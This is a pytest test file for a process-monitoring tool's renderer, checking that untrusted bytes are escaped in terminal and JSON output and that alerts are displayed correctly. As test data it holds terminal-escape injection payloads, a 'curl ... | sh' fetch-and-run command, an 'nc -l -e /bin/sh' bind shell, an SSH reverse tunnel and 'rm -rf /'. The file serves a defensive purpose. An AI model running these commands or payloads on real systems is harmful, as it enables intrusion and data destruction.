"""api.render: escaping of untrusted data, terminal lines, JSON lines, totals."""

from __future__ import annotations

import fcntl
import json
import os
import re
import struct
import termios
import unicodedata
from datetime import UTC, timedelta, timezone
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from api.events import (
    Alert,
    AnyEvent,
    BindEvent,
    CgroupMoveEvent,
    ConnectEvent,
    ExecEvent,
    ExitEvent,
    ForkEvent,
    IoUringEvent,
    ListenEvent,
    LostEvent,
    Process,
    RawSocketEvent,
    SocketEvent,
)
from api.render import (
    TextRenderer,
    bytes_from_json,
    escape,
    format_argv,
    json_line,
    line_width,
    totals_line,
)

T0 = 1_700_000_000_123_456_789  # 2023-11-14 22:13:20.123456789 UTC
TIME = "22:13:20.123"
SGR = re.compile(r"\x1b\[[0-9;]*m")
UNPRINTABLE = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}


def process(comm: bytes = b"curl", exe: bytes = b"/usr/bin/curl", pid: int = 4242) -> Process:
    return Process(
        pid=pid,
        tid=pid,
        ns_pid=7,
        ppid=1,
        uid=1000,
        gid=1000,
        comm=comm,
        start_ns=99,
        key=f"{pid}@99",
        exe=exe,
        user="alice",
        group="alice",
    )


def common(proc: Process | None = None, host: str = "node1") -> dict[str, Any]:
    return {
        "time_ns": T0,
        "mono_ns": 5,
        "host": host,
        "sandbox": "sb-1",
        "cgroup_id": 11,
        "cgroup_path": "/sandboxes/sb-1",
        "container_id": "c0ffee",
        "process": proc or process(),
    }


def exec_event(
    argv: list[bytes], comm: bytes = b"curl", exe: bytes = b"/usr/bin/curl", **kw: Any
) -> ExecEvent:
    return ExecEvent(**common(process(comm=comm, exe=exe)), argv=argv, **kw)


def renderer(color: bool = False, width: int = 80, show_host: bool = False) -> TextRenderer:
    return TextRenderer(color, width=width, show_host=show_host, tz=UTC)


def columns(text: str) -> int:
    """Terminal columns, counting wide characters as two and every other as one."""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)


def assert_terminal_safe(text: str) -> None:
    """Nothing in text (once our own SGR codes are removed) can drive a terminal."""
    for ch in SGR.sub("", text):
        cp = ord(ch)
        assert cp >= 0x20, repr(text)
        assert not 0x7F <= cp <= 0x9F, repr(text)
        assert unicodedata.category(ch) not in UNPRINTABLE, repr(text)


# --- escape ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (b"ls -la /tmp", "ls -la /tmp"),
        (b"a\\b", "a\\\\b"),
        (b"1\n2\t3\r", "1\\n2\\t3\\r"),
        (b"\x00\x07\x08\x7f", "\\x00\\x07\\x08\\x7f"),
        (b"\x1b[2J\x1b]0;owned\x07", "\\x1b[2J\\x1b]0;owned\\x07"),
        (b"\xc2\x9b31m", "\\x9b31m"),  # C1 CSI encoded as UTF-8
        ("\x9d", "\\x9d"),  # C1 OSC as text
        (b"\xff\xfe", "\\xff\\xfe"),
        (b"\xc0\xaf", "\\xc0\\xaf"),  # overlong "/"
        (b"\xed\xa0\x80", "\\xed\\xa0\\x80"),  # an encoded surrogate is not UTF-8
        (b"ab\xe2\x82", "ab\\xe2\\x82"),  # truncated sequence
        ("\udcff", "\\xff"),  # surrogate escape in a str
        (b"caf\xc3\xa9", "café"),
        ("日本語", "日本語"),
        ("Ελληνικά", "Ελληνικά"),
        ("evil\u202etxt.exe", "evil\\u{202e}txt.exe"),  # bidi override
        ("\u2066x\u2069", "\\u{2066}x\\u{2069}"),  # bidi isolates
        ("zero\u200bwidth", "zero\\u{200b}width"),
        ("\ufeffbom", "\\u{feff}bom"),
        ("a\u2028b\u2029c", "a\\u{2028}b\\u{2029}c"),
        ("nb\u00a0sp", "nb\\u{00a0}sp"),
        ("\ue000", "\\u{e000}"),  # private use
        ("\U000e0041", "\\u{e0041}"),  # tag character
        ("", ""),
        (b"", ""),
    ],
)
def test_escape(raw: bytes | str, shown: str) -> None:
    assert escape(raw) == shown


@pytest.mark.parametrize(
    ("raw", "limit", "shown"),
    [
        (b"abcdef", 4, "abc…"),
        (b"abcd", 4, "abcd"),
        (b"abcd", 0, ""),
        (b"", 0, ""),
        (b"abcd", 1, "…"),
        (b"a\x1b\x1b", 6, "a\\x1b…"),  # an escape is never cut in half
        (b"a\x1b\x1b", 5, "a…"),
        (b"a\x1b", 5, "a\\x1b"),
        ("日本語", 4, "日…"),  # wide characters take two columns
        ("日本語", 6, "日本語"),
    ],
)
def test_escape_limit(raw: bytes, limit: int, shown: str) -> None:
    assert escape(raw, limit) == shown


def test_escape_negative_limit_is_an_error() -> None:
    with pytest.raises(ValueError, match="negative"):
        escape(b"x", -1)


@settings(database=None, max_examples=300)
@given(raw=st.binary(max_size=64) | st.text(max_size=64), limit=st.integers(0, 40))
def test_escape_is_always_terminal_safe(raw: bytes | str, limit: int) -> None:
    full = escape(raw)
    assert_terminal_safe(full)
    cut = escape(raw, limit)
    assert_terminal_safe(cut)
    assert columns(cut) <= limit
    assert cut == full or cut.endswith("…") or (limit == 0 and cut == "")


# --- format_argv ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "shown"),
    [
        ([], ""),
        ([b"ls", b"-la", b"/tmp"], "ls -la /tmp"),
        ([b"--opt=v", b"k:v,w@x%y+z", b"caf\xc3\xa9"], "--opt=v k:v,w@x%y+z café"),
        ([b"echo", b"a b", b""], "echo 'a b' ''"),
        ([b""], "''"),
        ([b"it's"], "'it\\'s'"),
        ([b'"q"'], "'\"q\"'"),
        (
            [b"$(id)", b"a;b", b"x|y", b"&", b"*.py", b"~", b"<in", b"`x`"],
            "'$(id)' 'a;b' 'x|y' '&' '*.py' '~' '<in' '`x`'",
        ),
        ([b"a\\b"], "'a\\\\b'"),
        ([b"a\nb"], "'a\\nb'"),
        ([b"\xff"], "'\\xff'"),
        ([b"\x1b]0;owned\x07"], "'\\x1b]0;owned\\x07'"),
        ([b"sh", b"-c", b"echo hi; rm -rf /"], "sh -c 'echo hi; rm -rf /'"),
    ],
)
def test_format_argv(argv: list[bytes], shown: str) -> None:
    assert format_argv(argv) == shown


# --- terminal lines -------------------------------------------------------------------------


def test_header() -> None:
    assert renderer().header() == ("TIME         KIND    PID     COMM             DETAIL")
    assert renderer(show_host=True).header() == (
        "TIME         HOST         KIND    PID     COMM             DETAIL"
    )
    assert renderer(color=True).header() == (
        "\x1b[1mTIME         KIND    PID     COMM             DETAIL\x1b[0m"
    )


LINES: list[tuple[AnyEvent, str]] = [
    (
        exec_event([b"curl", b"-s", b"https://example.com/"]),
        "exec    4242    curl             /usr/bin/curl -s https://example.com/",
    ),
    (
        exec_event([b"echo", b"a b", b""], comm=b"echo", exe=b"/bin/echo"),
        "exec    4242    echo             /bin/echo 'a b' ''",
    ),
    (
        exec_event(
            [b"x", b"-v"],
            comm=b"x",
            exe=b"/memfd:x (deleted)",
            fileless=True,
            deleted=True,
            argv_truncated=True,
        ),
        "exec    4242    x                [memfd] [deleted] '/memfd:x (deleted)' -v [truncated]",
    ),
    (
        exec_event([b"sh"], comm=b"sh", exe=b"", filename=b"/bin/sh", path_truncated=True),
        "exec    4242    sh               [path truncated] /bin/sh",
    ),
    (
        ConnectEvent(
            **common(),
            protocol="tcp",
            family="ipv4",
            daddr="192.0.2.1",
            dport=443,
            outcome="success",
        ),
        "connect 4242    curl             tcp 192.0.2.1:443 success",
    ),
    (
        ConnectEvent(
            **common(),
            protocol="udp",
            family="ipv6",
            daddr="2001:db8::1",
            dport=53,
            outcome="success",
        ),
        "connect 4242    curl             udp [2001:db8::1]:53 success",
    ),
    (
        ConnectEvent(
            **common(),
            protocol="tcp",
            family="ipv4",
            daddr="192.0.2.1",
            dport=81,
            outcome="error",
            errno=111,
            errno_name="ECONNREFUSED",
        ),
        "connect 4242    curl             tcp 192.0.2.1:81 error ECONNREFUSED",
    ),
    (
        ConnectEvent(
            **common(),
            protocol="tcp",
            family="ipv4",
            daddr="203.0.113.10",
            dport=22,
            outcome="denied",
            errno=1,
            errno_name="EPERM",
            denied=True,
        ),
        "connect 4242    curl             tcp 203.0.113.10:22 denied EPERM",
    ),
    (
        ConnectEvent(
            **common(),
            protocol="tcp",
            family="ipv4",
            daddr="203.0.113.10",
            dport=22,
            outcome="repeated",
            repeats=5000,
            denied=True,
        ),
        "connect 4242    curl             tcp 203.0.113.10:22 repeated denied",
    ),
    (
        ConnectEvent(
            **common(),
            protocol="tcp",
            family="ipv4",
            daddr="192.0.2.1",
            dport=80,
            outcome="in_progress",
            errno=115,
        ),
        "connect 4242    curl             tcp 192.0.2.1:80 in_progress errno 115",
    ),
    (
        BindEvent(
            **common(),
            protocol="tcp",
            family="ipv4",
            addr="0.0.0.0",
            port=8080,
            requested_addr="0.0.0.0",
            requested_port=8080,
            outcome="success",
        ),
        "bind    4242    curl             tcp 0.0.0.0:8080",
    ),
    (
        BindEvent(
            **common(),
            protocol="tcp",
            family="ipv4",
            addr="0.0.0.0",
            port=41234,
            requested_addr="0.0.0.0",
            requested_port=0,
            outcome="success",
        ),
        "bind    4242    curl             tcp 0.0.0.0:41234",  # the port the kernel chose
    ),
    (
        BindEvent(
            **common(),
            protocol="udp",
            family="ipv6",
            addr="",
            port=0,
            requested_addr="::1",
            requested_port=53,
            outcome="error",
        ),
        "bind    4242    curl             udp [::1]:53 error",
    ),
    (
        ListenEvent(**common(), protocol="tcp", family="ipv4", addr="127.0.0.1", port=8000),
        "listen  4242    curl             tcp 127.0.0.1:8000 LISTEN",
    ),
    (
        SocketEvent(
            **common(),
            protocol="tcp",
            family="ipv4",
            state="established",
            laddr="10.0.0.2",
            lport=5555,
            raddr="192.0.2.1",
            rport=443,
        ),
        "socket  4242    curl             tcp 10.0.0.2:5555 -> 192.0.2.1:443 established",
    ),
    (
        SocketEvent(
            **common(), protocol="tcp", family="ipv6", state="listen", laddr="::", lport=22
        ),
        "socket  4242    curl             tcp [::]:22 listen",
    ),
    (ExitEvent(**common(), exit_code=3), "exit    4242    curl             code 3"),
    (ExitEvent(**common(), exit_code=0), "exit    4242    curl             code 0"),
    (
        ExitEvent(**common(), signal=9),
        "exit    4242    curl             signal 9 (SIGKILL)",
    ),
    (
        ExitEvent(**common(), signal=11, core_dumped=True),
        "exit    4242    curl             signal 11 (SIGSEGV) core dumped",
    ),
    (
        ForkEvent(**common(), child_pid=4243, child_key="4243@100"),
        "fork    4242    curl             child 4243",
    ),
    (
        CgroupMoveEvent(
            **common(), target_pid=4242, dst_cgroup_id=12, dst_cgroup_path="/sandboxes/sb-1/x"
        ),
        "move    4242    curl             -> /sandboxes/sb-1/x",
    ),
    (
        CgroupMoveEvent(
            **common(), target_pid=4250, dst_cgroup_id=1, dst_cgroup_path="/", left_sandbox=True
        ),
        "move    4242    curl             4250 -> / left sandbox",
    ),
    (
        ConnectEvent(
            **common(),
            protocol="unix",
            family="unix",
            outcome="success",
            path=b"/run/docker.sock\n",
        ),
        "connect 4242    curl             unix /run/docker.sock\\n success",
    ),
    (
        RawSocketEvent(**common(), family="ipv4", protocol="icmp", protocol_number=1),
        "raw     4242    curl             ipv4 icmp (protocol 1)",
    ),
    (
        IoUringEvent(**common(), fd=5, sq_entries=8, cq_entries=16),
        "uring   4242    curl             fd 5, 8/16 entries",
    ),
    (
        LostEvent(time_ns=T0, host="node1", kernel={}, user=0, errors={}),
        "lost    LOST kernel=0 user=0",
    ),
    (
        LostEvent(
            time_ns=T0,
            host="node1",
            kernel={"connect": 2, "exec": 3},
            user=4,
            errors={"stash": 1},
        ),
        "lost    LOST kernel=5 user=4 (exec=3 connect=2) errors: stash=1",
    ),
]


@pytest.mark.parametrize(("event", "shown"), LINES)
def test_line(event: AnyEvent, shown: str) -> None:
    full = f"{TIME} {shown}"
    assert renderer(width=200).line(event) == full
    # At the default width of 80 the tail is cut, with … in the last column.
    assert renderer().line(event) == (full if len(full) <= 80 else full[:79] + "…")


def test_line_with_host() -> None:
    event = ForkEvent(**common(host="a-very-long-host-name"), child_pid=5)
    assert renderer(show_host=True).line(event) == (
        f"{TIME} a-very-long… fork    4242    curl             child 5"
    )


def test_comm_is_escaped_and_cut_to_16_columns() -> None:
    event = ForkEvent(**common(process(comm=b"\x1b[31mred\x1b[0m")), child_pid=5)
    assert renderer().line(event) == f"{TIME} fork    4242    \\x1b[31mred\\x1b… child 5"


def test_long_line_is_cut_to_the_width() -> None:
    exe = b"/opt/" + b"d" * 200 + b"/tool"
    line = renderer().line(exec_event([b"tool", b"--flag"], exe=exe))
    assert len(line) == 80
    assert line == f"{TIME} exec    4242    curl             /opt/{'d' * 28}…"


def test_cut_never_splits_an_escape() -> None:
    # The detail starts at column 47; 33 columns are left before a … in column 80, and
    # "/t '" and 27 x leave 2, too few for the whole of \x1b.
    arg = b"x" * 27 + b"\x1b\x1b"
    line = renderer().line(exec_event([b"t", arg], exe=b"/t"))
    assert line == f"{TIME} exec    4242    curl             /t '{'x' * 27}…"
    assert len(line) == 78


@pytest.mark.parametrize(
    ("argv", "exe", "detail"),
    [
        # Only the head of a huge argument is escaped, but the whole of it decides the quotes:
        # the ; 5,000 characters on, or its absence.
        ([b"python3", b"-c", b"x" * 5000 + b";"], b"/usr/bin/python3", f"-c '{'x' * 12}…"),
        ([b"python3", b"-c", b"x" * 5000], b"/usr/bin/python3", f"-c {'x' * 13}…"),
        ([b"t", "é".encode() * 3000 + b"\x1b"], b"/t", f"'{'é' * 29}…"),
    ],
)
def test_huge_argument_shows_as_a_short_one_would(
    argv: list[bytes], exe: bytes, detail: str
) -> None:
    line = renderer().line(exec_event(argv, exe=exe))
    assert line == f"{TIME} exec    4242    curl             {exe.decode()} {detail}"


def test_thousands_of_arguments_are_cut_like_a_few() -> None:
    line = renderer().line(exec_event([b"sh"] + [b"a"] * 3000, exe=b"/bin/sh"))
    assert line == f"{TIME} exec    4242    curl             /bin/sh {'a ' * 12}a…"


def test_time_of_each_event_whatever_came_before() -> None:
    r = renderer()
    fork = ForkEvent(**common(), child_pid=5)
    times = [T0, T0 + 876_000_000, T0 + 1_000_000_000, T0 - 86_400_000_000_000, T0]
    shown = [r.line(msgspec.structs.replace(fork, time_ns=t))[:12] for t in times]
    assert shown == [TIME, "22:13:20.999", "22:13:21.123", TIME, TIME]
    r.tz = timezone(timedelta(hours=2))
    assert r.line(fork)[:12] == "00:13:20.123"


def test_cut_with_wide_characters() -> None:
    exe = ("/" + "日" * 40).encode()
    line = renderer().line(exec_event([b"t"], exe=exe))
    assert line == f"{TIME} exec    4242    curl             /{'日' * 16}…"
    assert columns(line) == 80


@pytest.mark.parametrize("width", [1, 5, 12, 30, 45, 46, 47])
def test_narrow_widths(width: int) -> None:
    r = renderer(width=width)
    for event, _ in LINES:
        assert columns(r.line(event)) <= width
    assert columns(r.header()) <= width
    assert len(r.header()) == width


def test_width_must_be_positive() -> None:
    with pytest.raises(ValueError, match="at least 1"):
        TextRenderer(False, width=0)


def test_colour_only_when_asked() -> None:
    for event, _ in LINES:
        plain = renderer().line(event)
        coloured = renderer(color=True).line(event)
        assert "\x1b" not in plain
        assert "\x1b" in coloured
        assert SGR.sub("", coloured) == plain
    assert "\x1b" not in renderer().header()


def test_colour_codes() -> None:
    r = renderer(color=True)
    assert r.line(ForkEvent(**common(), child_pid=5)) == (
        f"{TIME} \x1b[2mfork\x1b[0m    4242    curl             child 5"
    )
    assert r.line(LostEvent(time_ns=T0, host="h", kernel={"exec": 1}, user=0, errors={})) == (
        f"{TIME} \x1b[1;31mlost\x1b[0m    \x1b[1;31mLOST kernel=1 user=0 (exec=1)\x1b[0m"
    )
    deleted = r.line(exec_event([b"x"], exe=b"/x", deleted=True))
    assert "\x1b[1;33m[deleted] \x1b[0m/x" in deleted


def test_colour_does_not_count_toward_the_width() -> None:
    exe = b"/" + b"p" * 300
    for color in (False, True):
        line = renderer(color=color).line(exec_event([b"p"], exe=exe, fileless=True))
        assert columns(SGR.sub("", line)) == 80


INJECTIONS = [
    b"\x1b[2J\x1b[H",  # clear screen
    b"\x1b]0;owned\x07",  # OSC window title
    b"\x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    b"\x1bP+q\x1b\\",  # DCS
    b"\xc2\x9b2J",  # C1 CSI as UTF-8
    b"\x9b2J",  # raw C1 byte
    b"\x08\x08\x08\x08ok",  # backspaces
    b"safe\rfake line",  # carriage return
    b"a\nb",
    "\u202eexe.txt".encode(),
]


@pytest.mark.parametrize("payload", INJECTIONS)
@pytest.mark.parametrize("color", [False, True])
def test_injection_never_reaches_the_terminal(payload: bytes, color: bool) -> None:
    text = payload.decode("utf-8", "surrogateescape")
    proc = process(comm=payload[:15], exe=b"/tmp/" + payload)
    base = common(proc, host=text)
    events: list[AnyEvent] = [
        ExecEvent(**base, argv=[payload, payload, b"x" + payload], filename=payload),
        ConnectEvent(
            **base, protocol=text, daddr=text, dport=1, outcome=text, errno=1, errno_name=text
        ),
        BindEvent(**base, protocol=text, addr=text, outcome=text),
        ListenEvent(**base, protocol=text, addr=text),
        SocketEvent(**base, protocol=text, laddr=text, raddr=text, rport=2, state=text),
        CgroupMoveEvent(**base, target_pid=3, dst_cgroup_path=text, left_sandbox=True),
        LostEvent(time_ns=T0, host=text, kernel={text: 1}, user=0, errors={text: 2}),
    ]
    for show_host in (False, True):
        r = renderer(color=color, show_host=show_host)
        for event in events:
            line = r.line(event)
            assert_terminal_safe(line)
            assert columns(SGR.sub("", line)) <= 80
            if not color:
                assert "\x1b" not in line
            assert SGR.sub("", line).count("\x1b") == 0
    assert_terminal_safe(format_argv([payload]))
    assert_terminal_safe(totals_line({text: 1}, 0, 0))


@settings(database=None, max_examples=200)
@given(
    comm=st.binary(max_size=16),
    exe=st.binary(max_size=300),
    argv=st.lists(st.binary(max_size=80), max_size=8),
    path=st.binary(max_size=200),
    width=st.integers(1, 200),
    color=st.booleans(),
    show_host=st.booleans(),
)
def test_random_bytes_stay_safe_and_within_width(
    *,
    comm: bytes,
    exe: bytes,
    argv: list[bytes],
    path: bytes,
    width: int,
    color: bool,
    show_host: bool,
) -> None:
    proc = process(comm=comm, exe=exe)
    base = common(proc, host=path.decode("utf-8", "surrogateescape"))
    events: list[AnyEvent] = [
        ExecEvent(**base, argv=argv, argv_truncated=True, deleted=True),
        CgroupMoveEvent(
            **base, dst_cgroup_path=path.decode("utf-8", "surrogateescape"), left_sandbox=True
        ),
    ]
    r = renderer(color=color, width=width, show_host=show_host)
    for event in events:
        line = r.line(event)
        visible = SGR.sub("", line)
        assert all(ord(ch) >= 0x20 and ord(ch) != 0x7F for ch in visible)
        assert_terminal_safe(line)
        assert columns(visible) <= width
        assert "\n" not in line
        if not color:
            assert "\x1b" not in line


@settings(database=None, max_examples=200)
@given(comm=st.text(max_size=16), argv=st.lists(st.text(max_size=40), max_size=6))
def test_random_text_stays_safe_and_within_width(comm: str, argv: list[str]) -> None:
    event = exec_event([a.encode("utf-8", "surrogateescape") for a in argv], comm=comm.encode())
    line = renderer().line(event)
    assert_terminal_safe(line)
    assert columns(line) <= 80


def test_unreadable_time() -> None:
    event = ForkEvent(**{**common(), "time_ns": 10**30}, child_pid=1)
    assert renderer().line(event).startswith("??:??:??.??? fork ")


# --- JSON lines -----------------------------------------------------------------------------


def test_json_line_round_trips_non_utf8_argv() -> None:
    argv = [b"\xff\xfeok", b"caf\xc3\xa9", b"\x1b[31m\n", b"\xed\xa0\x80", b""]
    event = exec_event(argv, comm=b"c\xffm", cwd=b"/home/\x80")
    line = json_line(event)
    assert "\n" not in line
    assert line.isascii()
    assert all(0x20 <= ord(ch) < 0x7F for ch in line)
    assert '"\\\\xff\\\\xfeok"' in line  # escaped text: valid Unicode, no surrogates
    assert '"caf\\u00e9"' in line
    assert '"\\u001b[31m\\n"' in line
    d = json.loads(line)
    assert d["kind"] == "exec"
    assert [bytes_from_json(a) for a in d["argv"]] == argv
    assert bytes_from_json(d["process"]["comm"]) == b"c\xffm"
    assert bytes_from_json(d["cwd"]) == b"/home/\x80"
    assert d["process"]["pid"] == 4242
    assert d["time_ns"] == T0
    assert d["argv_truncated"] is False


def test_json_line_exact() -> None:
    event = ForkEvent(**common(), child_pid=5, child_key="5@1")
    assert json.loads(json_line(event)) == {
        "time_ns": T0,
        "mono_ns": 5,
        "host": "node1",
        "sandbox": "sb-1",
        "cgroup_id": 11,
        "cgroup_path": "/sandboxes/sb-1",
        "container_id": "c0ffee",
        "process": {
            "pid": 4242,
            "tid": 4242,
            "ns_pid": 7,
            "ppid": 1,
            "uid": 1000,
            "gid": 1000,
            "comm": "curl",
            "start_ns": 99,
            "key": "4242@99",
            "exe": "/usr/bin/curl",
            "argv": [],
            "user": "alice",
            "group": "alice",
            "ancestry": [],
            "sha256": "",
            "original_exe": "",
            "go_module": "",
            "cwd": "",
            "filename": "",
        },
        "child_pid": 5,
        "child_key": "5@1",
        "kind": "fork",
    }


def test_json_line_of_lost_event() -> None:
    event = LostEvent(time_ns=T0, host="h", kernel={"exec": 3}, user=1, errors={})
    assert json_line(event) == (
        f'{{"time_ns":{T0},"host":"h","kernel":{{"exec":3}},"user":1,"errors":{{}},"spool":0,"collector":"","sandboxes":{{}},"kind":"lost"}}'
    )


@settings(database=None, max_examples=300)
@given(raw=st.binary(max_size=64))
def test_json_bytes_round_trip(raw: bytes) -> None:
    line = json_line(exec_event([raw]))
    assert "\n" not in line
    assert line.isascii()
    assert bytes_from_json(json.loads(line)["argv"][0]) == raw


# --- totals ---------------------------------------------------------------------------------


def test_totals_line() -> None:
    counts = {"connect": 2, "zzz": 1, "exec": 3, "cgroup_move": 1}
    assert totals_line(counts, 4, 5) == (
        "events: exec=3 connect=2 cgroup_move=1 zzz=1 lost: kernel=4 user=5"
    )
    assert totals_line({}, 0, 0) == "events: none lost: kernel=0 user=0"


def test_local_time_by_default() -> None:
    line = TextRenderer(False).line(ForkEvent(**common(), child_pid=1))
    assert re.fullmatch(r"\d\d:\d\d:\d\d\.123 fork    4242    curl             child 1", line)


def _alert(**kw: Any) -> Alert:
    base: dict[str, Any] = {
        "alert_id": "h-1",
        "rule_id": "r1",
        "title": "Reverse SSH tunnel",
        "level": "high",
        "tags": ["attack.t1572"],
        "description": "",
        "time_ns": T0,
        "host": "h",
        "sandbox": "st-1",
        "process": process(comm=b"ssh\x1b[2J"),
        "events": [],
    }
    base.update(kw)
    return Alert(**base)


def test_alert_line_plain_and_escaped() -> None:
    r = TextRenderer(color=False, width=None, tz=UTC)
    assert r.alert_line(_alert()) == (
        "22:13:20.123 ALERT   4242    ssh\\x1b[2J       [high] Reverse SSH tunnel (rule r1)\n"
        "             cmd: /usr/bin/curl"  # its executable (the process knows no argv)
    )
    assert r.alert_line(_alert(count=12, repeat=True, folds="h-0")) == (
        "22:13:20.123 REPEAT  4242    ssh\\x1b[2J       [high x12] Reverse SSH tunnel (rule r1)\n"
        "             cmd: /usr/bin/curl"
    )


def test_alert_line_is_highlighted_only_in_colour() -> None:
    line = TextRenderer(color=True, tz=UTC).alert_line(_alert(level="critical"))
    assert "\x1b[1;7;31mALERT\x1b[0m" in line
    assert "\x1b[2J" not in line  # the process's bytes stay escaped
    assert "\x1b" not in TextRenderer(color=False).alert_line(_alert())


def _connect(port: int, addr: str = "203.0.113.10", proc: Process | None = None) -> ConnectEvent:
    return ConnectEvent(
        **common(proc),
        protocol="tcp",
        family="ipv4",
        daddr=addr,
        dport=port,
        outcome="success",
    )


def _ssh() -> Process:
    proc = process(comm=b"ssh", exe=b"/usr/bin/ssh")
    proc.argv = [b"ssh", b"-R", b"8080:localhost:22", b"tunnel@203.0.113.10", b"\x1b[2J"]
    return proc


def test_alert_names_its_destinations_and_the_command_line() -> None:
    """Second line: where the process connected (the first three distinct destinations,
    then how many more), and its command line, escaped and quoted like an exec line."""
    r = TextRenderer(color=False, width=None, tz=UTC)
    ssh = _ssh()
    events = [_connect(22, proc=ssh), _connect(22, proc=ssh)]  # one destination, twice
    events += [_connect(p, "198.51.100.1", ssh) for p in (443, 80, 8443, 993)]
    alert = _alert(process=ssh, events=events, rule_id="63544065-6ab1-4983-842d")
    assert r.alert_line(alert).split("\n") == [
        "22:13:20.123 ALERT   4242    ssh              [high] Reverse SSH tunnel "
        "(rule 63544065-6ab1-4983-842d)",
        "             to: tcp 203.0.113.10:22, tcp 198.51.100.1:443, tcp 198.51.100.1:80 "
        "and 2 more  cmd: /usr/bin/ssh -R 8080:localhost:22 tunnel@203.0.113.10 '\\x1b[2J'",
    ]


def test_alert_counts_the_events_it_left_out_and_shows_listeners() -> None:
    r = TextRenderer(color=False, width=None, show_host=True, tz=UTC)
    nc = process(comm=b"nc", exe=b"/usr/bin/nc.openbsd")
    bind = BindEvent(
        **common(nc),
        protocol="tcp",
        family="ipv4",
        addr="0.0.0.0",
        port=48571,
        requested_addr="0.0.0.0",
        requested_port=0,
        outcome="success",
    )
    listen = ListenEvent(**common(nc), protocol="tcp", family="ipv4", addr="0.0.0.0", port=48571)
    exec_ = ExecEvent(**common(nc), argv=[b"nc", b"-l", b"-e", b"/bin/sh"])
    alert = _alert(process=nc, events=[exec_, bind, listen], omitted=7, title="Bind shell")
    assert r.alert_line(alert).split("\n")[1] == (
        "                          on: tcp 0.0.0.0:48571 (+7 events left out)  "
        "cmd: /usr/bin/nc.openbsd -l -e /bin/sh"
    )


def test_alert_without_network_events_shows_the_command_line_only() -> None:
    r = TextRenderer(color=False, width=None, tz=UTC)
    curl = process()
    exec_ = ExecEvent(**common(curl), argv=[b"curl", b"-s", b"http://192.0.2.1/x | sh"])
    assert r.alert_line(_alert(process=curl, events=[exec_])).split("\n")[1] == (
        "             cmd: /usr/bin/curl -s 'http://192.0.2.1/x | sh'"
    )
    # a summary of repeats with no events and an unknown command line: one line
    bare = process(exe=b"")
    assert "\n" not in r.alert_line(_alert(process=bare, repeat=True, count=3))


def test_alert_lines_are_each_cut_to_the_width() -> None:
    r = TextRenderer(color=False, width=60, tz=UTC)
    ssh = _ssh()
    alert = _alert(process=ssh, events=[_connect(22, proc=ssh)])
    first, second = r.alert_line(alert).split("\n")
    assert first == "22:13:20.123 ALERT   4242    ssh              [high] Revers…"
    assert second == "             to: tcp 203.0.113.10:22  cmd: /usr/bin/ssh -R …"
    assert all(columns(line) <= 60 for line in (first, second))


def test_no_width_means_no_cut() -> None:
    argv = [b"python3", b"-c", b"x" * 500]
    line = TextRenderer(color=False, width=None, tz=UTC).line(exec_event(argv))
    assert line.endswith(" /usr/bin/curl -c " + "x" * 500)


def test_line_width_is_the_terminal_s_only_on_a_terminal(tmp_path: Any) -> None:
    with (tmp_path / "out").open("w") as f:
        assert line_width(None, f) is None  # a file: whole lines
        assert line_width(120, f) == 120  # --width given: that
    primary, secondary = os.openpty()
    try:
        fcntl.ioctl(primary, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 132, 0, 0))
        with os.fdopen(secondary, "w") as tty:
            assert line_width(None, tty) == 132
    finally:
        os.close(primary)
